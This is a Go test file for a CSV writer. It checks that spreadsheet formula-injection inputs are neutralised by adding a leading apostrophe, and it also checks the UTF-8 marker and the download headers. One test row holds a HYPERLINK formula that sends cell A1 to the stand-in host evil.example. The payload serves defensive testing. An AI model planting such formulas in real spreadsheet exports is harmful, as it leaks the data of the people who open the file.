package web_test

import (
	"encoding/csv"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"countersign/internal/web"
)

func TestCSV(t *testing.T) {
	w := httptest.NewRecorder()
	c, err := web.NewCSV(w, "users.csv")
	if err != nil {
		t.Fatal(err)
	}
	rows := [][]string{
		{"Name", "Phone", "", "Text"},
		{`=HYPERLINK("http://evil.example/?"&A1;"see")`, "+44 1632 960123", "-1", "@SUM(A1)"},
		{"\t=1", "\r=1", "\n=1", "＝1+1"},
		{"＋1", "－1", "＠x", "a=b"},
		{`Ada "Countess", Lovelace`, "line\nbreak", "佐藤 Łukasz", " =1"},
	}
	for _, row := range rows {
		if err := c.Row(row...); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.Flush(); err != nil {
		t.Fatal(err)
	}
	t.Run("U1 whatever would be a formula is text", func(t *testing.T) {
		text, marked := strings.CutPrefix(w.Body.String(), "\uFEFF")
		if !marked {
			t.Error("Excel cannot tell that it is UTF-8")
		}
		got, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		want := [][]string{
			rows[0],
			{`'=HYPERLINK("http://evil.example/?"&A1;"see")`, "'+44 1632 960123", "'-1", "'@SUM(A1)"},
			{"'\t=1", "'=1", "'\n=1", "'＝1+1"},
			{"'＋1", "'－1", "'＠x", "a=b"},
			rows[4],
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Error(diff)
		}
	})
	h := w.Header()
	if h.Get("Content-Type") != "text/csv; charset=utf-8; header=present" || h.Get("Content-Disposition") != `attachment; filename="users.csv"` {
		t.Errorf("%v", h)
	}
}
